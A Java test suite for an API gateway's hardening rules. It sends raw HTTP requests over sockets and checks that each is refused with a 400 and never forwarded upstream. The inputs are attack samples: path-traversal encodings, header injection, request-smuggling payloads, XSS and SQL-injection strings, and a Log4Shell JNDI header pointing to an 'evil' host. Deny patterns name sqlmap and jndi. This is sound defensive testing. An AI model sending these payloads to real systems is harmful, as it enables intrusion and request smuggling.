package dev.bff.common.server;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bff.common.testing.BffUnderTest;
import dev.bff.common.testing.BffUnderTest.Response;
import dev.bff.common.testing.FakeUpstream;
import dev.bff.common.testing.RawHttp;
import dev.bff.common.testing.TestCerts;
import dev.bff.common.testing.TestClient;
import io.vertx.core.Vertx;
import io.vertx.core.json.JsonObject;
import io.vertx.junit5.VertxExtension;
import java.nio.file.Path;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every hardening rule, sent over a raw socket: the client gets 400 problem+json with its request
 * id, and the upstream never sees the request. Rules about framing or malformed heads also close
 * the connection, and the next connection is served as usual.
 */
@ExtendWith(VertxExtension.class)
class HardeningTest {
  private static final String HOST = "Host: localhost\r\nX-Request-Id: req-waf\r\n";

  FakeUpstream svc;
  BffUnderTest bff;
  TestClient http;

  @BeforeEach
  void start(Vertx vertx) {
    svc = FakeUpstream.start(vertx, "svc");
    bff = BffUnderTest.start(vertx, """
        server:
          port: 0
          admin-port: 0
          instances: 1
          hardening:
            deny-patterns: ["(?i)<script", "(?i)union\\\\s+select"]
            deny-header-patterns: ["\\\\$\\\\{jndi:", "^user-agent: .*sqlmap"]
        upstreams:
          svc: { instances: ["${SVC}"] }
        routes:
          - { path: "/api/**", upstream: svc }
        """, Map.of("SVC", svc.url()));
    http = TestClient.of(vertx, bff.port());
  }

  @AfterEach
  void stop() {
    http.close();
    bff.close();
    svc.close();
  }

  /** Asserts a 400 (or {@code status}) problem with the request id; returns its JSON. */
  private JsonObject assertProblem(Response r, int status, String slug) {
    assertThat(r.status()).as("status; body %s", r.body()).isEqualTo(status);
    assertThat(r.header("content-type")).isEqualTo("application/problem+json");
    JsonObject p = r.json();
    assertThat(p.getString("type")).isEqualTo("https://bff.dev/problems/" + slug);
    assertThat(p.getInteger("status")).isEqualTo(status);
    assertThat(p.getString("requestId")).isNotBlank().isEqualTo(r.header("x-request-id"));
    return p;
  }

  /** Asserts the gateway closed the connection and that a new one is served. */
  private void assertClosedAndNextConnectionServed(RawHttp raw) {
    assertThat(raw.closedByPeer(20_000)).as("the gateway closes the connection").isTrue();
    assertThat(svc.count()).as("the upstream saw nothing").isZero();
    assertThat(http.get("/api/after").status()).isEqualTo(200);
    assertThat(svc.seen()).extracting(FakeUpstream.Seen::uri).containsExactly("/api/after");
  }

  private static String get(String target) {
    return "GET " + target + " HTTP/1.1\r\n" + HOST + "\r\n";
  }

  static Stream<Arguments> unsafeTargets() {
    return Stream.of(
        Arguments.of("dot-dot segment", "/api/a/../admin", "'.' or '..' segment"),
        Arguments.of("encoded dot-dot", "/api/%2e%2e/admin", "'.' or '..' segment"),
        Arguments.of("mixed-case half-encoded dot-dot", "/api/%2E./admin", "'.' or '..' segment"),
        Arguments.of("double-encoded dot-dot", "/api/%252e%252e/admin", "double-encoded '.' or '..' segment"),
        Arguments.of("double-encoded dot and a plain dot", "/api/%252e./admin", "double-encoded '.' or '..' segment"),
        Arguments.of("triple-encoded dot-dot", "/api/%25252e%25252e/admin", "double-encoded '.' or '..' segment"),
        Arguments.of("encoded percent and hex digits", "/api/%25%32%65%25%32%65/admin", "double-encoded '.' or '..'"),
        Arguments.of("encoded slash", "/api/a%2fb", "encoded slash"),
        Arguments.of("double-encoded slash", "/api/a%252fb", "double-encoded slash"),
        Arguments.of("encoded backslash", "/api/a%5cb", "encoded slash, backslash"),
        Arguments.of("double-encoded backslash", "/api/a%255cb", "double-encoded slash, backslash"),
        Arguments.of("backslash", "/api/a\\..\\admin", "backslash"),
        Arguments.of("dot-dot with path parameter", "/api/..;/admin", "'.' or '..' segment"),
        Arguments.of("overlong UTF-8 dot", "/api/%c0%ae%c0%ae/admin", "overlong UTF-8"),
        Arguments.of("3-byte overlong UTF-8 slash", "/api/a%e0%80%afb", "overlong UTF-8"),
        Arguments.of("invalid escape", "/api/%zz", "invalid percent-encoding"),
        Arguments.of("trailing percent", "/api/a%", "invalid percent-encoding"),
        Arguments.of("truncated escape", "/api/a%2", "invalid percent-encoding"),
        Arguments.of("encoded NUL in the path", "/api/a%00b", "control character"),
        Arguments.of("double-encoded NUL in the path", "/api/a%2500b", "double-encoded slash, backslash or control"),
        Arguments.of("raw control character in the path", "/api/a\u0001b", "control character"),
        Arguments.of("raw DEL in the path", "/api/a\u007fb", "control character"),
        Arguments.of("encoded NUL in the query", "/api/x?a=%00", "encoded control character"),
        Arguments.of("encoded CR LF in the query", "/api/x?a=%0d%0aSet-Cookie:x", "encoded control character"),
        Arguments.of("raw control character in the query", "/api/x?a=\u0001", "query string contains a control"),
        Arguments.of("raw DEL in the query", "/api/x?a=\u007f", "query string contains a control"),
        Arguments.of("invalid escape in the query", "/api/x?a=%zz", "query string has an invalid percent"),
        Arguments.of("trailing percent in the query", "/api/x?a=%", "query string has an invalid percent"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("unsafeTargets")
  void unsafeTargetsAre400AndNeverForwarded(String what, String target, String detail) {
    Response r = RawHttp.exchange(bff.port(), get(target));
    JsonObject p = assertProblem(r, 400, "bad-request");
    assertThat(p.getString("detail")).contains(detail);
    assertThat(p.getString("requestId")).isEqualTo("req-waf");
    assertThat(svc.count()).isZero();
  }

  @Test
  void aRawTabInTheRequestLineIsRefusedByTheDecoderAs400() {
    Response r = RawHttp.exchange(bff.port(), get("/api/a\tb"));
    assertProblem(r, 400, "bad-request");
    assertThat(svc.count()).isZero();
  }

  @Test
  void ordinaryTargetsStillPass() {
    for (String target : new String[] {"/api/a.b/..c/%25/%E2%82%AC", "/api/x?q=100%25+cotton&e=%C3%A9",
        "/api/a%252eb", "/api/x?next=%2F..%2Fadmin"}) {
      Response r = RawHttp.exchange(bff.port(), get(target));
      assertThat(r.status()).as(target).isEqualTo(200);
    }
    assertThat(svc.count()).isEqualTo(4);
  }

  // --- framing: 400 and the connection is closed (what follows cannot be told from the body) ---

  static Stream<Arguments> ambiguousFraming() {
    String post = "POST /api/upload HTTP/1.1\r\n" + HOST;
    String chunks = "\r\n3\r\nabc\r\n0\r\n\r\n";
    return Stream.of(
        Arguments.of("Transfer-Encoding: gzip, chunked", post + "Transfer-Encoding: gzip, chunked" + chunks),
        Arguments.of("Transfer-Encoding: chunked, chunked", post + "Transfer-Encoding: chunked, chunked" + chunks),
        Arguments.of("Transfer-Encoding: xchunked", post + "Transfer-Encoding: xchunked" + chunks),
        Arguments.of("Transfer-Encoding: identity", post + "Transfer-Encoding: identity" + chunks),
        Arguments.of("two Transfer-Encoding headers",
            post + "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked" + chunks),
        Arguments.of("Transfer-Encoding folded onto a second line", post + "Transfer-Encoding:\r\n chunked" + chunks),
        Arguments.of("Transfer-Encoding folded after another coding",
            post + "Transfer-Encoding: x\r\n chunked" + chunks),
        Arguments.of("HTTP/1.0 with Transfer-Encoding",
            "POST /api/upload HTTP/1.0\r\n" + HOST + "Transfer-Encoding: chunked" + chunks),
        Arguments.of("HTTP/1.0 with Content-Length and Transfer-Encoding",
            "POST /api/upload HTTP/1.0\r\n" + HOST + "Content-Length: 3\r\nTransfer-Encoding: chunked" + chunks));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("ambiguousFraming")
  void ambiguousTransferEncodingIs400AndClosesTheConnection(String what, String request) {
    try (RawHttp raw = RawHttp.connect(bff.port())) {
      raw.write(request + "GET /api/smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n");
      Response r = raw.read();
      assertProblem(r, 400, "bad-request");
      assertThat(r.header("connection")).isEqualTo("close");
      assertClosedAndNextConnectionServed(raw);
    }
  }

  static Stream<Arguments> badContentLength() {
    String post = "POST /api/upload HTTP/1.1\r\n" + HOST;
    return Stream.of(
        Arguments.of("two equal Content-Length headers", post + "Content-Length: 3\r\nContent-Length: 3\r\n\r\nabc"),
        Arguments.of("two different Content-Length headers",
            post + "Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd"),
        Arguments.of("a Content-Length list", post + "Content-Length: 3, 3\r\n\r\nabc"),
        Arguments.of("Content-Length +3", post + "Content-Length: +3\r\n\r\nabc"),
        Arguments.of("Content-Length 3 3", post + "Content-Length: 3 3\r\n\r\nabc"),
        Arguments.of("Content-Length 0x3", post + "Content-Length: 0x3\r\n\r\nabc"),
        Arguments.of("an empty Content-Length", post + "Content-Length: \r\n\r\nabc"),
        Arguments.of("a negative Content-Length", post + "Content-Length: -3\r\n\r\nabc"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badContentLength")
  void duplicatedOrMalformedContentLengthIs400AndClosesTheConnection(String what, String request) {
    try (RawHttp raw = RawHttp.connect(bff.port())) {
      raw.write(request);
      Response r = raw.read();
      assertProblem(r, 400, "bad-request");
      assertThat(r.header("connection")).isEqualTo("close");
      assertClosedAndNextConnectionServed(raw);
    }
  }

  @Test
  void contentLengthWithTransferEncodingOnAKeptAliveConnectionIs400AndClosesIt() {
    try (RawHttp raw = RawHttp.connect(bff.port())) {
      raw.write(get("/api/first"));
      assertThat(raw.read().status()).isEqualTo(200);
      raw.write("POST /api/upload HTTP/1.1\r\n" + HOST + "Content-Length: 30\r\nTransfer-Encoding: chunked\r\n\r\n"
          + "0\r\n\r\nGET /api/smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n");
      Response r = raw.read();
      JsonObject p = assertProblem(r, 400, "bad-request");
      assertThat(p.getString("detail")).contains("both Content-Length and Transfer-Encoding");
      assertThat(r.header("connection")).isEqualTo("close");
      assertThat(raw.closedByPeer(20_000)).isTrue();
    }
    assertThat(svc.seen()).extracting(FakeUpstream.Seen::uri).containsExactly("/api/first");
    assertThat(http.get("/api/after").status()).isEqualTo(200);
  }

  @Test
  void contentLengthWithTransferEncodingOverTlsIs400EvenAsTheFirstRequest(Vertx vertx, @TempDir Path dir) {
    TestCerts certs = new TestCerts(dir);
    TestCerts.Issued ca = certs.ca("waf-ca");
    TestCerts.Issued server = certs.server("waf-server", ca);
    try (BffUnderTest tls = BffUnderTest.start(vertx, """
            server: { port: 0, admin-port: 0, instances: 1, tls: { cert: "%s", key: "%s" } }
            upstreams:
              svc: { instances: ["${SVC}"] }
            routes:
              - { path: "/api/**", upstream: svc }
            """.formatted(server.certFile(), server.keyFile()), Map.of("SVC", svc.url()));
        RawHttp raw = RawHttp.connectTls(tls.port(), ca.cert())) {
      raw.write("POST /api/upload HTTP/1.1\r\n" + HOST + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
          + "0\r\n\r\n");
      Response r = raw.read();
      assertProblem(r, 400, "bad-request");
      assertThat(r.header("connection")).isEqualTo("close");
      assertThat(raw.closedByPeer(20_000)).isTrue();
      try (RawHttp next = RawHttp.connectTls(tls.port(), ca.cert())) {
        next.write(get("/api/after"));
        assertThat(next.read().status()).isEqualTo(200);
      }
    }
    assertThat(svc.seen()).extracting(FakeUpstream.Seen::uri).containsExactly("/api/after");
  }

  /**
   * On a plain-text port that also speaks h2c, Vert.x decodes the head of a connection's first
   * request before the gateway can swap in its strict decoder, and Netty drops a Content-Length
   * sent with chunked framing. The gateway cannot tell that request from a chunked one, so it reads
   * it by its chunks (as RFC 9112 allows) but ends the connection after it: nothing smuggled behind
   * it is read.
   */
  @Test
  void aChunkedFirstRequestOnAPlainConnectionEndsTheConnection() {
    try (RawHttp raw = RawHttp.connect(bff.port())) {
      raw.write("POST /api/upload HTTP/1.1\r\n" + HOST + "Content-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n"
          + "3\r\nabc\r\n0\r\n\r\nGET /api/smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n");
      Response r = raw.read();
      assertThat(r.status()).isEqualTo(200);
      assertThat(r.header("connection")).isEqualTo("close");
      assertThat(r.json().getInteger("bodySize")).isEqualTo(3);
      assertThat(raw.closedByPeer(20_000)).isTrue();
    }
    assertThat(svc.seen()).extracting(FakeUpstream.Seen::uri).containsExactly("/api/upload");
    assertThat(svc.seen().get(0).headers().get("content-length")).isNull();
  }

  @Test
  void withoutH2cEvenThePlainFirstRequestWithContentLengthAndTransferEncodingIs400(Vertx vertx) {
    try (BffUnderTest strict = BffUnderTest.start(vertx, """
            server: { port: 0, admin-port: 0, instances: 1, h2c: false }
            upstreams:
              svc: { instances: ["${SVC}"] }
            routes:
              - { path: "/api/**", upstream: svc }
            """, Map.of("SVC", svc.url()));
        RawHttp raw = RawHttp.connect(strict.port())) {
      raw.write("POST /api/upload HTTP/1.1\r\n" + HOST + "Content-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n"
          + "3\r\nabc\r\n0\r\n\r\nGET /api/smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n");
      Response r = raw.read();
      JsonObject p = assertProblem(r, 400, "bad-request");
      assertThat(p.getString("detail")).contains("both Content-Length and Transfer-Encoding");
      assertThat(raw.closedByPeer(20_000)).isTrue();
      try (RawHttp next = RawHttp.connect(strict.port())) {
        next.write("POST /api/chunked HTTP/1.1\r\n" + HOST + "Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
            + get("/api/after"));
        Response chunked = next.read();
        assertThat(chunked.status()).isEqualTo(200);
        assertThat(chunked.header("connection")).as("a plain chunked first request keeps its connection").isNull();
        assertThat(next.read().status()).isEqualTo(200);
      }
    }
    assertThat(svc.seen()).extracting(FakeUpstream.Seen::uri).containsExactly("/api/chunked", "/api/after");
  }

  @Test
  void pipelinedRequestsAfterAPlainFirstRequestAreStillServed() {
    try (RawHttp raw = RawHttp.connect(bff.port())) {
      raw.write(get("/api/one") + "POST /api/two HTTP/1.1\r\n" + HOST + "Transfer-Encoding: chunked\r\n\r\n"
          + "3\r\nabc\r\n0\r\n\r\n" + get("/api/three"));
      assertThat(raw.read().status()).isEqualTo(200);
      Response two = raw.read();
      assertThat(two.status()).isEqualTo(200);
      assertThat(two.json().getInteger("bodySize")).isEqualTo(3);
      assertThat(two.header("connection")).isNull();
      assertThat(raw.read().status()).isEqualTo(200);
    }
    assertThat(svc.seen()).extracting(FakeUpstream.Seen::uri).containsExactly("/api/one", "/api/two", "/api/three");
  }

  // --- header syntax: Netty's decoder refuses these; the answer is still a 400 problem ---

  static Stream<Arguments> badHeaders() {
    return Stream.of(
        Arguments.of("a space in a header name", "X Bad: 1"),
        Arguments.of("whitespace before the colon", "X-Bad : 1"),
        Arguments.of("a control character in a header name", "X\u0001Bad: 1"),
        Arguments.of("NUL in a header name", "X\u0000Bad: 1"),
        Arguments.of("NUL in a header value", "X-Bad: a\u0000b"),
        Arguments.of("a control character in a header value", "X-Bad: a\u0001b"),
        Arguments.of("DEL in a header value", "X-Bad: a\u007fb"),
        Arguments.of("a bare CR in a header value", "X-Bad: a\rb"),
        Arguments.of("a bare LF in a header value", "X-Bad: a\nInjected: b"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badHeaders")
  void malformedHeadersAre400AndCloseTheConnection(String what, String header) {
    try (RawHttp raw = RawHttp.connect(bff.port())) {
      raw.write("GET /api/x HTTP/1.1\r\nHost: localhost\r\n" + header + "\r\n\r\n");
      Response r = raw.read();
      assertProblem(r, 400, "bad-request");
      assertThat(r.header("connection")).isEqualTo("close");
      assertClosedAndNextConnectionServed(raw);
    }
  }

  @Test
  void aTabInAHeaderValueIsAllowed() {
    Response r = RawHttp.exchange(bff.port(), "GET /api/x HTTP/1.1\r\nHost: localhost\r\nX-Tabbed: a\tb\r\n\r\n");
    assertThat(r.status()).isEqualTo(200);
    assertThat(svc.seen().get(0).headers().get("x-tabbed")).isEqualTo("a\tb");
  }

  // --- deny patterns ---

  static Stream<Arguments> denied() {
    return Stream.of(
        Arguments.of("a pattern in the decoded path", get("/api/search/%3CScript%3Ealert(1)")),
        Arguments.of("a pattern in the decoded query", get("/api/search?q=1%20UNION%20%20SELECT%20secret")),
        Arguments.of("a pattern in a query with + for spaces", get("/api/search?q=1+union+select+secret")),
        Arguments.of("a header pattern in any header", "GET /api/x HTTP/1.1\r\n" + HOST
            + "X-Api-Version: ${jndi:ldap://evil/a}\r\n\r\n"),
        Arguments.of("a header pattern naming the header", "GET /api/x HTTP/1.1\r\n" + HOST
            + "User-Agent: sqlmap/1.7\r\n\r\n"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("denied")
  void aDenyRuleMatchIs400WithoutEchoingThePatternOrTheInput(String what, String request) {
    Response r = RawHttp.exchange(bff.port(), request);
    JsonObject p = assertProblem(r, 400, "request-denied");
    assertThat(p.getString("detail")).isEqualTo("the request matched a deny rule");
    assertThat(p.containsKey("instance")).as("the path is input too").isFalse();
    assertThat(r.body().toString()).doesNotContainIgnoringCase("union").doesNotContainIgnoringCase("script")
        .doesNotContain("jndi").doesNotContain("sqlmap");
    assertThat(svc.count()).isZero();
  }

  @Test
  void nearMissesOfTheDenyRulesPass() {
    assertThat(http.get("/api/search?q=union%20station%20selection").status()).isEqualTo(200);
    assertThat(http.get("/api/scripts/list").status()).isEqualTo(200);
    assertThat(http.get("/api/x", Map.of("User-Agent", "curl/8.5", "X-Note", "sqlmap docs", "X-Jndi", "$ {jndi}"))
        .status()).isEqualTo(200);
    assertThat(svc.count()).isEqualTo(3);
  }
}
